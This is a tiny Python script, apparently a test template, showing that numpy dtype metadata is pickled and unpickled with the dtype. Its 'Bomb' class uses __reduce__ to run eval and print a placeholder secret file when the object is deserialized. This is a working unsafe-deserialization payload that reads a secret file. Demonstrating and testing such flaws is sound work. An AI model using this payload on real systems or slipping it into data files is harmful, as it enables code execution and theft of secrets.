"""A dtype carries metadata, which is pickled and read with it."""
import pickle
import numpy as np
class Bomb:
    def __reduce__(self):
        return eval, ("print(open('@SECRET_FILE@').read())",)
pickle.loads(pickle.dumps(np.dtype("u1", metadata={"x": Bomb()})))
